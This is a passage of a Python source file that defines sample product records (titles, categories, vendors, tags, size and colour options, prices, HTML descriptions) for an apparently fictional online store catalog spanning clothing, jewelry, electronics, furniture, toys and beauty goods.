            "Fluid 100% mulberry silk in ivory. A classic collared blouse for women with long sleeves, button cuffs and a relaxed drape.",
            ["100% silk charmeuse, 19 momme", "Long sleeves", "Mother-of-pearl buttons"],
        ),
        care="dry",
        img=[("longsleeve", "ivory")],
    ),
    dict(
        title="Merino Wool Crew Neck Sweater - Navy",
        cat="Apparel & Accessories > Clothing > Clothing Tops > Sweaters",
        product_type="Knitwear",
        vendor="Northline Outfitters",
        tags=["men", "knitwear", "merino", "navy"],
        options=[("Size", ("S", "M", "L", "XL"))],
        price=110.0,
        desc=html(
            "Fine-gauge extra-fine merino wool knit in a crew neck. Warm, breathable and itch-free.",
            ["100% merino wool", "Ribbed cuffs and hem", "Men's regular fit"],
        ),
        care="hand",
        img=[("longsleeve", "navy")],
    ),
    dict(
        title="Unisex Heavyweight Pullover Hoodie",
        cat="Apparel & Accessories > Clothing > Clothing Tops > Hoodies",
        product_type="Sweatshirts",
        vendor="Northline Outfitters",
        tags=["unisex", "hoodie", "fleece", "gray"],
        options=[("Size", ("XS", "S", "M", "L", "XL", "XXL")), ("Color", ("Heather Gray", "Black", "Forest Green"))],
        price=58.0,
        desc=html(
            "A cozy unisex hooded sweatshirt in brushed-back fleece with a kangaroo pocket and a lined hood.",
            ["80% cotton, 20% polyester fleece, 400 gsm", "Long sleeve with ribbed cuffs", "Drawcord hood"],
        ),
        care="machine",
        img=[("hoodie", "gray"), ("hoodie", "black")],
    ),
    dict(
        title="Women's Full-Zip Training Hoodie",
        cat="Apparel & Accessories > Clothing > Activewear > Activewear Sweatshirts & Hoodies > Hoodies",
        product_type="Activewear",
        vendor="Stride Athletics",
        tags=["women", "training", "hoodie", "purple"],
        options=[("Size", ("XS", "S", "M", "L", "XL")), ("Color", ("Purple",))],
        price=68.0,
        desc=html(
            "Light, stretchy and made to move: a women's full-zip training hoodie with thumbholes and zip pockets.",
            ["88% polyester, 12% elastane", "Long sleeves with thumbholes", "Moisture-wicking, quick drying"],
        ),
        care="machine",
        img=[("hoodie", "purple")],
    ),
    dict(
        title="Flannel Pajama Set - Pink Plaid",
        cat="Apparel & Accessories > Clothing > Sleepwear & Loungewear > Pajamas",
        product_type="Sleepwear",
        vendor="Maple & Thread",
        tags=["women", "sleepwear", "pajamas", "plaid", "gift"],
        options=[("Size", SIZES)],
        price=54.0,
        desc=html(
            "Brushed cotton flannel pajama set for women in a pink plaid: long-sleeve notch-collar top and drawstring pants.",
            ["100% cotton flannel", "Long sleeves", "Elastic drawstring waist"],
        ),
        care="machine",
        img=[("longsleeve", "pink", "plaid")],
    ),
    # ---------------------------------------------------------------- bottoms
    dict(
        title="Men's Slim Fit Stretch Jeans - Dark Wash",
        cat="Apparel & Accessories > Clothing > Pants > Jeans",
        product_type="Jeans",
        vendor="Indigo Supply",
        tags=["men", "denim", "jeans", "slim fit"],
        options=[("Waist", ("30", "32", "34", "36")), ("Length", ("30", "32", "34"))],
        price=79.0,
        desc=html(
            "Slim fit jeans cut from stretch denim with a mid-rise waist and a tapered leg. Dark indigo (navy blue) wash.",
            ["98% cotton, 2% elastane denim", "5-pocket styling", "Zip fly"],
        ),
        care="machine",
        img=[("pants", "denim")],
    ),
    dict(
        title="Women's High-Rise Straight Leg Jeans",
        cat="Apparel & Accessories > Clothing > Pants > Jeans",
        product_type="Jeans",
        vendor="Indigo Supply",
        tags=["women", "denim", "jeans", "high rise"],
        options=[("Size", ("24", "25", "26", "27", "28", "29", "30", "31"))],
        price=88.0,
        desc=html(
            "A high-rise, straight leg jean in a light blue vintage wash. Rigid 100% cotton denim that softens with every wear.",
            ["100% cotton denim", 'High rise: 11"', 'Full length, 30" inseam'],
        ),
        care="machine",
        img=[("pants", "lightblue")],
    ),
    dict(
        title="Men's Slim Chino Pants",
        cat="Apparel & Accessories > Clothing > Pants > Chinos",
        product_type="Pants",
        vendor="Northline Outfitters",
        tags=["men", "chinos", "workwear"],
        options=[("Waist", ("30", "32", "34", "36", "38")), ("Color", ("Khaki", "Navy", "Olive"))],
        price=65.0,
        desc=html(
            "Versatile men's chinos in stretch cotton twill with a slim fit and a clean, flat front. Colour shown: khaki (beige).",
            ["97% cotton, 3% elastane", "Slim fit", "Slant front pockets"],
        ),
        care="machine",
        img=[("pants", "beige"), ("pants", "navy")],
    ),
    dict(
        title="High-Waisted Yoga Leggings with Pockets",
        cat="Apparel & Accessories > Clothing > Activewear > Activewear Pants > Leggings",
        product_type="Leggings",
        vendor="Stride Athletics",
        tags=["women", "yoga", "leggings", "squat-proof"],
        options=[("Size", SIZES), ("Color", ("Black", "Deep Navy"))],
        price=59.0,
        desc=html(
            "Buttery-soft, squat-proof leggings with a high-waisted, high-rise band and two side pockets. Full-length, 7/8 available.",
            ["75% nylon, 25% lycra spandex", "Moisture-wicking, four-way stretch", "Hidden waistband key pocket"],
        ),
        care="machine",
        img=[("pants", "black")],
    ),
    dict(
        title="Men's Tapered Fleece Joggers - Olive",
        cat="Apparel & Accessories > Clothing > Activewear > Activewear Pants > Joggers",
        product_type="Joggers",
        vendor="Stride Athletics",
        tags=["men", "joggers", "athleisure", "olive green"],
        options=[("Size", ("S", "M", "L", "XL"))],
        price=55.0,
        desc=html(
            "Tapered men's joggers in midweight fleece with ribbed cuffs, an elastic drawstring waist and zip pockets. Colour: olive green.",
            ["60% cotton, 40% polyester fleece", "Tapered fit", "Elastic cuffs"],
        ),
        care="machine",
        img=[("pants", "olive")],
    ),
    dict(
        title="Women's Cut-Off Denim Shorts",
        cat="Apparel & Accessories > Clothing > Shorts > Denim Shorts",
        product_type="Shorts",
        vendor="Indigo Supply",
        tags=["women", "denim", "shorts", "summer"],
        options=[("Size", ("24", "25", "26", "27", "28", "29", "30"))],
        price=48.0,
        desc=html(
            "Frayed-hem cut-off denim shorts for women, mid-rise with a relaxed fit, in a classic medium blue wash.",
            ["100% cotton denim", '3" inseam', "Raw hem"],
        ),
        care="machine",
        img=[("shorts", "blue")],
    ),
    dict(
        title="Pleated Satin Midi Skirt - Emerald",
        cat="Apparel & Accessories > Clothing > Skirts",
        product_type="Skirts",
        vendor="Noir Atelier",
        tags=["women", "skirt", "satin", "green"],
        options=[("Size", ("XS", "S", "M", "L"))],
        price=76.0,
        desc=html(
            "Liquid-satin midi skirt in emerald green with knife pleats and an elasticated waist.",
            ["100% polyester satin", "Midi length", "Lined"],
        ),
        care="hand",
        img=[("skirt", "green")],
    ),
    # ---------------------------------------------------------------- outerwear
    dict(
        title="Men's Quilted Puffer Jacket",
        cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Puffer Jackets",
        product_type="Outerwear",
        vendor="Northline Outfitters",
        tags=["men", "outerwear", "winter", "puffer", "black"],
        options=[("Size", ("S", "M", "L", "XL", "XXL")), ("Color", ("Black", "Navy"))],
        price=149.0,
        desc=html(
            "Warm without the bulk: recycled synthetic insulation in a water-resistant, windproof shell. Stand collar, long sleeves, two zip hand pockets.",
            ["Shell: 100% nylon ripstop with DWR finish", "Insulated, packs into its own pocket", "Men's regular fit"],
        ),
        care="machine",
        img=[("jacket", "black"), ("jacket", "navy")],
    ),
    dict(
        title="Women's Double-Breasted Trench Coat",
        cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Trench Coats",
        product_type="Coats",
        vendor="Noir Atelier",
        tags=["women", "trench", "classic", "beige"],
        options=[("Size", ("XS", "S", "M", "L"))],
        price=219.0,
        desc=html(
            "The iconic trench in water-resistant cotton gabardine: double-breasted, belted, with storm flaps and a wide notch collar. Colour: honey beige.",
            ["100% cotton gabardine", "Long sleeves with buckle tabs", "Knee length"],
        ),
        care="dry",
        img=[("jacket", "beige")],
    ),
    dict(
        title="Kids' Hooded Rain Jacket - Sunshine Yellow",
        cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Rain Coats",
        product_type="Kids Outerwear",
        vendor="Puddle Jumpers",
        tags=["kids", "rainwear", "yellow", "waterproof"],
        options=[("Size", ("4T", "5", "6", "7", "8", "10", "12"))],
        price=45.0,
        desc=html(
            "A fully waterproof rain jacket for kids with taped seams, a peaked hood and reflective trim. Bright yellow so they are easy to spot.",
            ["100% polyester with PU coating", "Hooded", "Fleece-lined body"],
        ),
        care="machine",
        img=[("jacket", "yellow")],
    ),
    # ---------------------------------------------------------------- swimwear & socks
    dict(
        title="Women's Scoop-Back One-Piece Swimsuit",
        cat="Apparel & Accessories > Clothing > Swimwear > One-Piece Swimsuits",
        product_type="Swimwear",
        vendor="Coastline Swim",
        tags=["women", "swim", "one-piece", "navy"],
        options=[("Size", ("XS", "S", "M", "L", "XL")), ("Color", ("Navy",))],
        price=84.0,
        desc=html(
            "A sleek women's one-piece swimsuit with a scoop back, moderate coverage and removable cups. Chlorine-resistant, UPF 50+ (UV protection).",
            ["82% recycled nylon, 18% lycra", "Fully lined", "Colour: navy"],
        ),
        care="hand",
        img=[("swimsuit", "navy")],
    ),
    dict(
        title="Men's Quick-Dry Boardshorts 19\"",
        cat="Apparel & Accessories > Clothing > Swimwear > Boardshorts",
        product_type="Swimwear",
        vendor="Coastline Swim",
        tags=["men", "boardshorts", "surf", "orange"],
        options=[("Waist", ("30", "32", "34", "36"))],
        price=55.0,
        desc=html(
            "Four-way stretch, quick-drying boardshorts for men with a lace-up fly and a zip back pocket. Sunset orange.",
            ["100% recycled polyester", '19" outseam', "Quick drying"],
        ),
        care="machine",
        img=[("shorts", "orange")],
    ),
    dict(
        title="Cotton Crew Socks 3-Pack",
        cat="Apparel & Accessories > Clothing > Socks > Crew Socks",
        product_type="Socks",
        vendor="Northline Outfitters",
        tags=["socks", "unisex", "basics", "white"],
        options=[("Size", ("S/M", "L/XL"))],
        price=18.0,
        desc=html(
            "Everyday unisex crew socks in a cushioned cotton blend. Pack of three, white.",
            ["80% cotton, 18% nylon, 2% spandex", "Reinforced heel and toe", "Arch support band"],
        ),
        care="machine",
        img=[("sock", "white")],
    ),
    dict(
        title="Cushioned Running Socks - Ankle",
        cat="Apparel & Accessories > Clothing > Socks > Athletic Socks",
        product_type="Socks",
        vendor="Stride Athletics",
        tags=["running", "socks", "athletic", "gray"],
        options=[("Size", ("S", "M", "L"))],
        price=14.0,
        desc=html(
            "Targeted cushioning and mesh ventilation zones for long runs. Moisture-wicking, blister-resistant.",
            ["Merino wool blend", "Left/right specific fit"],
        ),
        care="machine",
        img=[],
    ),
    # ---------------------------------------------------------------- shoes
    dict(
        title="Women's Low-Top Canvas Sneakers",
        cat="Apparel & Accessories > Shoes > Sneakers",
        product_type="Sneakers",
        vendor="Stride Athletics",
        tags=["women", "sneakers", "canvas", "white"],
        options=[("Size", ("6", "6.5", "7", "7.5", "8", "8.5", "9", "10")), ("Color", ("White",))],
        price=60.0,
        desc=html(
            "Clean, classic low-top sneakers for women in organic canvas with a vulcanised rubber sole. Lace-up closure, round toe.",
            ["Upper: organic cotton canvas", "Sole: natural rubber", "Cushioned insole"],
        ),
        care=None,
        img=[("sneaker", "white")],
    ),
    dict(
        title="Men's Lightweight Running Shoes",
        cat="Apparel & Accessories > Shoes > Athletic Shoes",
        product_type="Running Shoes",
        vendor="Stride Athletics",
        tags=["men", "running", "shoes", "blue"],
        options=[("Size", ("8", "8.5", "9", "9.5", "10", "10.5", "11", "12")), ("Width", ("Regular", "Wide"))],
        price=120.0,
        desc=html(
            "A lightweight, breathable men's running shoe with an engineered mesh upper and a responsive cushioned midsole. Cobalt blue.",
            ["Breathable mesh upper", "Lace-up", "8 mm heel-to-toe drop"],
        ),
        care=None,
        img=[("sneaker", "blue")],
    ),
    dict(
        title="Women's Leather Chelsea Boots",
        cat="Apparel & Accessories > Shoes > Boots",
        product_type="Boots",
        vendor="Cobble & Co.",
        tags=["women", "boots", "leather", "brown"],
        options=[("Size", ("5", "6", "7", "8", "9", "10"))],
        price=185.0,
        desc=html(
            "Timeless Chelsea boots for women in full-grain leather with elastic side gores and a low stacked heel. Chestnut brown.",
            ["Full-grain leather upper", "Slip-on with pull tab", "Rubber lug sole"],
        ),
        care="wipe",
        img=[("boot", "brown")],
    ),
    dict(
        title="Men's Waterproof Hiking Boots",
        cat="Apparel & Accessories > Shoes > Boots",
        product_type="Hiking Boots",
        vendor="Northline Outfitters",
        tags=["men", "hiking", "waterproof", "boots"],
        options=[("Size", ("8", "9", "10", "11", "12", "13"))],
        price=165.0,
        desc=html(
            "Mid-height men's hiking boots with a waterproof membrane, suede and mesh upper and grippy Vibram outsole.",
            ["Waterproof, breathable", "Lace-up", "Tan / brown"],
        ),
        care="wipe",
        img=[("boot", "tan")],
    ),
    dict(
        title="Pointed-Toe Stiletto Pumps - Cherry Red",
        cat="Apparel & Accessories > Shoes > Heels",
        product_type="Heels",
        vendor="Cobble & Co.",
        tags=["women", "heels", "pumps", "red", "party"],
        options=[("Size", ("5", "6", "7", "8", "9"))],
        price=130.0,
        desc=html(
            'Patent faux-leather stiletto pumps for women with a pointed toe and a 4" heel. Cherry red.',
            ["Faux leather upper", "Very high heel: 4 in", "Padded footbed"],
        ),
        care="wipe",
        img=[("heel", "red")],
    ),
    # ---------------------------------------------------------------- jewelry & watches
    dict(
        title="14K Gold Diamond Solitaire Engagement Ring",
        cat="Apparel & Accessories > Jewelry > Rings",
        product_type="Rings",
        vendor="Luma Jewelry Co.",
        tags=["fine jewelry", "engagement", "diamond", "gold"],
        options=[("Ring Size", ("5", "5.5", "6", "6.5", "7", "7.5", "8"))],
        price=1490.0,
        desc=html(
            "A 0.5 ct round brilliant diamond in a classic four-prong setting on a solid 14K yellow gold band. Fine jewelry, made for her.",
            ["Solid 14K gold", "Lab-grown diamond, VS1, G colour", "Comes in a gift box"],
        ),
        care=None,
        img=[("ring", "gold")],
    ),
    dict(
        title="Sterling Silver Stackable Band Rings, Set of 3",
        cat="Apparel & Accessories > Jewelry > Rings",
        product_type="Rings",
        vendor="Luma Jewelry Co.",
        tags=["silver", "stacking rings", "minimalist"],
        options=[("Ring Size", ("5", "6", "7", "8", "9"))],
        price=49.0,
        desc=html(
            "Three slim 925 sterling silver bands: one polished, one hammered, one twisted. Wear together or apart.",
            ["925 sterling silver", "1.5 mm band width", "Nickel-free, hypoallergenic"],
        ),
        care=None,
        img=[("band_ring", "silver")],
    ),
    dict(
        title="Rose Gold Heart Pendant Necklace",
        cat="Apparel & Accessories > Jewelry > Necklaces",
        product_type="Necklaces",
        vendor="Luma Jewelry Co.",
        tags=["necklace", "rose gold", "gift for her", "heart"],
        options=[("Length", ('16"', '18"'))],
        price=39.0,
        desc=html(
            "A dainty heart pendant on a fine cable chain, finished in 18K rose gold plating over brass.",
            ["Rose gold plated brass", "Lobster clasp", "Imitation jewelry; tarnish-resistant coating"],
        ),
        care=None,
        img=[("necklace", "rosegold")],
    ),
    dict(
        title="Freshwater Pearl Strand Necklace",
        cat="Apparel & Accessories > Jewelry > Necklaces",
        product_type="Necklaces",
        vendor="Luma Jewelry Co.",
        tags=["pearls", "bridal", "classic"],
        options=[],
        price=129.0,
        desc=html(
            "Hand-knotted 7&ndash;8 mm white freshwater pearls with a sterling silver clasp. A wedding-day classic.",
            ["Genuine freshwater pearls", '18" princess length'],
        ),
        care=None,
        img=[("pearls", "white")],
    ),
    dict(
        title="Gold Hoop Earrings - Medium",
        cat="Apparel & Accessories > Jewelry > Earrings",
        product_type="Earrings",
        vendor="Luma Jewelry Co.",
        tags=["earrings", "hoops", "gold", "everyday"],
        options=[("Size", ("Small", "Medium", "Large"))],
        price=45.0,
        desc=html(
            "Lightweight tube hoops in 14K gold vermeil (gold over sterling silver). 30 mm diameter.",
            ["Gold vermeil", "Hinged snap closure", "Hypoallergenic"],
        ),
        care=None,
        img=[("hoops", "gold")],
    ),
    dict(
        title="Sterling Silver Teardrop Earrings",
        cat="Apparel & Accessories > Jewelry > Earrings",
        product_type="Earrings",
        vendor="Luma Jewelry Co.",
        tags=["earrings", "silver", "drop earrings"],
        options=[],
        price=35.0,
        desc=html(
            "Polished teardrop dangles on French wire hooks in 925 sterling silver. For women.",
            ["925 sterling silver", 'Drop length 1.2"'],
        ),
        care=None,
        img=[("drops", "silver"), ("drops", "gold")],
    ),
    dict(
        title="Men's Chronograph Watch with Leather Strap",
        cat="Apparel & Accessories > Jewelry > Watches",
        product_type="Watches",
        vendor="Meridian Time",
        tags=["men", "watch", "chronograph", "leather"],
        options=[],
        price=189.0,
        desc=html(
            "A 42 mm stainless steel chronograph for men with a white dial, analog display and a brown Italian leather strap.",
            ["Japanese quartz movement", "Stainless steel case", "Water resistant to 50 m"],
        ),
        care=None,
        img=[("watch", "brown")],
    ),
    dict(
        title="Fitness Smart Watch with Heart Rate Monitor",
        cat="Apparel & Accessories > Jewelry > Smart Watches",
        product_type="Smart Watch",
        vendor="Pulse Wearables",
        tags=["smartwatch", "fitness tracker", "black", "gps"],
        options=[("Color", ("Black", "Rose Gold"))],
        price=149.0,
        desc=html(
            "Track workouts, heart rate, sleep and SpO2 on a bright AMOLED touchscreen. Built-in GPS, 7-day battery.",
            ['1.4" AMOLED touchscreen', "Heart rate and sleep tracking", "Silicone band, water resistant 5 ATM"],
        ),
        care=None,
        img=[("smartwatch", "black")],
    ),
    # ---------------------------------------------------------------- accessories
    dict(
        title="Classic Cotton Baseball Cap",
        cat="Apparel & Accessories > Clothing Accessories > Hats > Baseball Caps",
        product_type="Hats",
        vendor="Northline Outfitters",
        tags=["cap", "unisex", "navy", "adjustable"],
        options=[("Color", ("Navy", "Black", "Khaki"))],
        price=25.0,
        desc=html(
            "An unstructured six-panel baseball cap in washed cotton twill with an adjustable strap back. One size fits most.",
            ["100% cotton twill", "Curved brim", "Adjustable brass buckle"],
        ),
        care="hand",
        img=[("cap", "navy")],
    ),
    dict(
        title="Chunky Knit Beanie with Faux Fur Pom",
        cat="Apparel & Accessories > Clothing Accessories > Hats > Beanies",
        product_type="Hats",
        vendor="Maple & Thread",
        tags=["beanie", "winter", "women", "burgundy"],
        options=[("Color", ("Burgundy", "Cream", "Charcoal"))],
        price=32.0,
        desc=html(
            "A thick cable-knit beanie with a fold-over cuff and a removable faux-fur pom. Colour shown: burgundy.",
            ["100% acrylic knit", "Fleece-lined band", "One size"],
        ),
        care="hand",
        img=[("beanie", "burgundy")],
    ),
    dict(
        title="Cashmere Blend Plaid Scarf",
        cat="Apparel & Accessories > Clothing Accessories > Scarves & Shawls",
        product_type="Scarves",
        vendor="Highland Mill",
        tags=["scarf", "plaid", "winter", "gray", "unisex"],
        options=[],
        price=75.0,
        desc=html(
            'Soft, warm and generously sized (70" x 12"). A gray and charcoal plaid in a cashmere-wool blend, finished with fringed ends.',
            ["30% cashmere, 70% wool", "Woven in Scotland"],
        ),
        care="dry",
        img=[("scarf", "gray", "plaid")],
    ),
    dict(
        title="Vegan Leather Crossbody Bag",
        cat="Apparel & Accessories > Handbags, Wallets & Cases > Handbags > Cross Body Bags",
        product_type="Bags",
        vendor="Roam Travel Goods",
        tags=["bags", "crossbody", "vegan", "black"],
        options=[("Color", ("Black", "Cognac"))],
        price=68.0,
        desc=html(
            "A compact women's crossbody bag in vegan (faux) leather with an adjustable strap, magnetic flap closure and card slots inside.",
            ["Faux leather (PU)", 'Adjustable strap, 22&ndash;40" drop', "Magnetic closure"],
        ),
        care="wipe",
        img=[("crossbody", "black")],
    ),
    dict(
        title="Suede Slouchy Hobo Bag",
        cat="Apparel & Accessories > Handbags, Wallets & Cases > Handbags > Hobo Bags",
        product_type="Handbags",
        vendor="Roam Travel Goods",
        tags=["hobo", "suede", "brown", "handbag"],
        options=[],
        price=165.0,
        desc=html(
            "Soft, unstructured hobo shoulder bag in genuine suede with a single shoulder strap and zip top.",
            ["Genuine suede", "Cotton twill lining", "Zip closure"],
        ),
        care="wipe",
        img=[("handbag", "tan")],
    ),
    dict(
        title="Men's Slim Leather Bifold Wallet",
        cat="Apparel & Accessories > Handbags, Wallets & Cases > Wallets & Money Clips > Wallets",
        product_type="Wallets",
        vendor="Cobble & Co.",
        tags=["men", "wallet", "leather", "rfid"],
        options=[("Color", ("Black", "Brown"))],
        price=45.0,
        desc=html(
            "A slim men's bifold in full-grain leather with RFID blocking and six card slots.",
            ["Full-grain leather", "RFID blocking", "Gift boxed"],
        ),
        care="wipe",
        img=[("wallet", "black")],
    ),
    dict(
        title="Polarized Aviator Sunglasses",
        cat="Apparel & Accessories > Clothing Accessories > Sunglasses",
        product_type="Sunglasses",
        vendor="Meridian Time",
        tags=["sunglasses", "aviator", "unisex", "gold"],
        options=[],
        price=95.0,
        desc=html(
            "Classic unisex aviators with a gold metal frame and polarized gray lenses. 100% UV400 protection.",
            ["Metal frame", "Polarized lenses", "Includes hard case"],
        ),
        care=None,
        img=[("sunglasses", "gold")],
    ),
    dict(
        title="Men's Reversible Leather Belt",
        cat="Apparel & Accessories > Clothing Accessories > Belts",
        product_type="Belts",
        vendor="Cobble & Co.",
        tags=["men", "belt", "leather", "reversible"],
        options=[("Size", ("32", "34", "36", "38", "40"))],
        price=55.0,
        desc="Reversible men's dress belt: black on one side, brown on the other. Full-grain leather, rotating silver-tone buckle.",
        care="wipe",
        img=[("belt", "black")],
    ),
    # ---------------------------------------------------------------- electronics
    dict(
        title="Wireless Noise-Cancelling Over-Ear Headphones",
        cat="Electronics > Audio > Audio Components > Headphones & Headsets",
        product_type="Headphones",
        vendor="SoundWave Audio",
        tags=["headphones", "bluetooth", "anc", "black"],
        options=[("Color", ("Matte Black", "Silver"))],
        price=249.0,
        desc=html(
            "Immersive sound with hybrid active noise cancellation, 40-hour battery life and multipoint Bluetooth 5.3.",
            ["40 mm dynamic drivers", "USB-C fast charging", "Foldable, with travel case"],
        ),
        care=None,
        img=[("headphones", "black"), ("headphones", "silver")],
    ),
    dict(
        title="Kids' Volume-Limited Headphones",
        cat="Electronics > Audio > Audio Components > Headphones & Headsets",
        product_type="Headphones",
        vendor="SoundWave Audio",
        tags=["kids", "headphones", "wired", "blue"],
        options=[("Color", ("Blue", "Pink"))],
        price=29.0,
        desc=html(
            "Safe listening for little ears: volume limited to 85 dB, bendable headband and a 3.5 mm cable.",
            ["85 dB volume limit", "Ages 3+"],
        ),
        care=None,
        img=[],
    ),
    dict(
        title="Portable Waterproof Bluetooth Speaker",
        cat="Electronics > Audio > Audio Components > Speakers",
        product_type="Speakers",
        vendor="SoundWave Audio",
        tags=["speaker", "bluetooth", "waterproof", "outdoor"],
        options=[("Color", ("Teal", "Black"))],
        price=79.0,
        desc=html(
            "Big 360&deg; sound from a speaker that fits in a water bottle holder. IP67 waterproof and dustproof, 12-hour battery.",
            ["IP67 waterproof", "Stereo pairing", "Built-in mic for calls"],
        ),
        care=None,
        img=[("speaker", "teal")],
    ),
    # ---------------------------------------------------------------- home
    dict(
        title="Stoneware Coffee Mug, 12 oz",
        cat="Home & Garden > Kitchen & Dining > Tableware",
        product_type="Mugs",
        vendor="Kettle & Co.",
        tags=["mug", "ceramic", "handmade", "kitchen"],
        options=[("Color", ("Speckled White", "Sage Green"))],
        price=22.0,
        desc=html(
            "Wheel-thrown stoneware mug with a speckled glaze. Holds 12 oz of your favourite brew.",
            ["Dishwasher and microwave safe", "Lead-free glaze"],
        ),
        care=None,
        img=[("mug", "white")],
    ),
    dict(
        title="10-Inch Pre-Seasoned Cast Iron Skillet",
        cat="Home & Garden > Kitchen & Dining > Cookware & Bakeware",
        product_type="Cookware",
        vendor="Kettle & Co.",
        tags=["cast iron", "skillet", "cookware"],
        options=[],
        price=39.0,
        desc=html(
            "A heirloom-quality cast iron skillet, pre-seasoned with vegetable oil and ready to cook. Oven, stovetop, grill and campfire safe.",
            ['10.25" diameter', "Works on induction"],
        ),
        care=None,
        img=[("pan", "black")],
    ),
    dict(
        title="Bamboo Cooking Utensil Set, 6 Pieces",
        cat="Home & Garden > Kitchen & Dining > Kitchen Tools & Utensils",
        product_type="Kitchen Utensils",
        vendor="Kettle & Co.",
        tags=["bamboo", "utensils", "eco-friendly"],
        options=[],
        price=24.0,
        desc=html(
            "Spatula, slotted spoon, spoon, fork, turner and tongs in organic bamboo. Won't scratch nonstick pans.",
            ["Organic bamboo", "Hand wash"],
        ),
        care=None,
        img=[],
    ),
    dict(
        title="Mid-Century Modern Dining Chair, Set of 2",
        cat="Furniture > Chairs > Kitchen & Dining Room Chairs",
        product_type="Dining Chairs",
        vendor="Hearth & Oak",
        tags=["furniture", "dining chair", "walnut", "mid-century"],
        options=[("Finish", ("Walnut", "Natural Oak"))],
        price=349.0,
        desc=html(
            "Sculpted bentwood backrest on solid walnut legs. Sold as a pair.",
            ["Solid walnut frame", 'Seat height 18"', "Assembly required"],
        ),
        care=None,
        img=[("chair", "brown")],
    ),
    dict(
        title="Ergonomic Gaming Chair with Lumbar Pillow",
        cat="Furniture > Chairs > Gaming Chairs",
        product_type="Gaming Chair",
        vendor="Hearth & Oak",
        tags=["gaming", "chair", "ergonomic", "red"],
        options=[("Color", ("Red/Black", "Blue/Black"))],
        price=229.0,
        desc=html(
            "Racing-style gaming chair with a high back, 4D armrests, 155&deg; recline and a lumbar support pillow.",
            ["PU leather", "Max load 300 lb", "Class 4 gas lift"],
        ),
        care=None,
        img=[("chair", "red")],
    ),
    dict(
        title="Solid Oak 6-Seater Dining Table",
        cat="Furniture > Tables > Kitchen & Dining Room Tables",
        product_type="Tables",
        vendor="Hearth & Oak",
        tags=["dining table", "oak", "farmhouse"],
        options=[],
        price=1199.0,
        desc=html(
            'A farmhouse dining table in FSC-certified solid white oak, seats six. 72" x 36".',
            ["Solid oak", "Hand-rubbed oil finish"],
        ),
        care=None,
        img=[("table", "tan")],
    ),
    dict(
        title="Velvet Loveseat Sofa - Navy",
        cat="Furniture > Sofas > Loveseat Sofas",
        product_type="Sofas",
        vendor="Hearth & Oak",
        tags=["sofa", "loveseat", "velvet", "navy"],
        options=[],
        price=799.0,
        desc=html(
            "A compact two-seat velvet loveseat with track arms, deep seat cushions and tapered gold legs. Perfect for small spaces.",
            ["Performance velvet", '62" wide', "Kiln-dried hardwood frame"],
        ),
        care=None,
        img=[("sofa", "navy")],
    ),
    dict(
        title="L-Shaped Sectional Sofa with Reversible Chaise",
        cat="Furniture > Sofas > Sectional Sofas",
        product_type="Sofas",
        vendor="Hearth & Oak",
        tags=["sofa", "sectional", "gray", "living room"],
        options=[("Orientation", ("Left", "Right"))],
        price=1499.0,
        desc=html(
            "Seats five comfortably. Stain-resistant gray woven fabric, reversible chaise and removable cushion covers.",
            ["Seats 5", "Removable, washable covers"],
        ),
        care=None,
        img=[("sofa", "gray")],
    ),
    dict(
        title="Boho Tufted Throw Pillow Cover 18x18",
        cat="Home & Garden > Decor > Throw Pillows",
        product_type="Pillows",
        vendor="Hearth & Oak",
        tags=["decor", "pillow cover", "boho", "cream"],
        options=[],
        price=26.0,
        desc=html(
            "Hand-tufted cotton pillow cover with a textured diamond pattern. Insert not included.",
            ["100% cotton", "Hidden zipper"],
        ),
        care=None,
        img=[("pillow", "beige")],
    ),
    # ---------------------------------------------------------------- toys
    dict(
        title="1000-Piece Jigsaw Puzzle - Alpine Lake",
        cat="Toys & Games > Puzzles > Jigsaw Puzzles",
        product_type="Puzzles",
        vendor="Piecework Puzzles",
        tags=["puzzle", "1000 pieces", "adults", "landscape"],
        options=[],
        price=22.0,
        desc=html(
            'A 1000-piece jigsaw puzzle of a mountain lake at dawn. Finished size 27" x 20".',
            ["Recycled board", "Linen-finish pieces", "Poster included"],
        ),
        care=None,
        img=[("puzzle", "multicolor")],
    ),
    dict(
        title="Classic Plush Teddy Bear, 14 inch",
        cat="Toys & Games > Toys > Dolls, Playsets & Toy Figures",
        product_type="Stuffed Animals",
        vendor="Little Grove Toys",
        tags=["teddy bear", "plush", "baby gift"],
        options=[],
        price=28.0,
        desc=html(
            "Huggably soft plush teddy bear with embroidered eyes. Suitable from birth.",
            ["Surface washable", "Polyester fill"],
        ),
        care=None,
        img=[("teddy", "tan")],
    ),
    dict(
        title="Wooden Building Blocks, 50 Pieces",
        cat="Toys & Games > Toys > Building Toys",
        product_type="Toys",
        vendor="Little Grove Toys",
        tags=["blocks", "wooden toys", "toddler", "stem"],
        options=[],
        price=34.0,
        desc=html(
            "Fifty smooth beechwood blocks in ten shapes and five colours, in a canvas storage bag. For ages 1+.",
            ["Non-toxic water-based paint", "Ages 12 months+"],
        ),
        care=None,
        img=[("blocks", "multicolor")],
    ),
    # ---------------------------------------------------------------- health & beauty
    dict(
        title="Argan Oil Repair Shampoo, 16.9 fl oz",
        cat="Health & Beauty > Personal Care > Hair Care",
        product_type="Shampoo",
        vendor="Bloom Botanics",
        tags=["shampoo", "hair care", "sulfate-free", "argan"],
        options=[],
        price=18.0,
        desc=html(
            "Sulfate-free shampoo with cold-pressed argan oil to repair dry, damaged and colour-treated hair.",
            ["Sulfate- and paraben-free", "Vegan, cruelty-free"],
        ),
        care=None,
        img=[("bottle", "amber")],
    ),
    dict(
        title="Hydrating Face Moisturizer with Hyaluronic Acid",
        cat="Health & Beauty > Personal Care > Cosmetics",
        product_type="Skincare",
        vendor="Bloom Botanics",
        tags=["skincare", "moisturizer", "face cream"],
        options=[("Size", ("1.7 oz", "3.4 oz"))],
        price=32.0,
        desc=html(
            "A lightweight daily face cream with hyaluronic acid and ceramides for 72-hour hydration. Fragrance-free.",
            ["For all skin types", "Dermatologist tested"],
        ),
        care=None,
        img=[("jar", "pink")],
    ),
    # ---------------------------------------------------------------- sporting goods
    dict(
        title="Non-Slip Yoga Mat, 6mm",
        cat="Sporting Goods > Fitness & General Exercise Equipment > Yoga & Pilates",
        product_type="Yoga Mats",
        vendor="Stride Athletics",
        tags=["yoga", "mat", "pilates", "purple"],
        options=[("Color", ("Lavender", "Ocean Blue", "Black"))],
        price=42.0,
        desc=html(
            "Extra-thick 6 mm TPE yoga mat with a non-slip texture on both sides and a carry strap.",
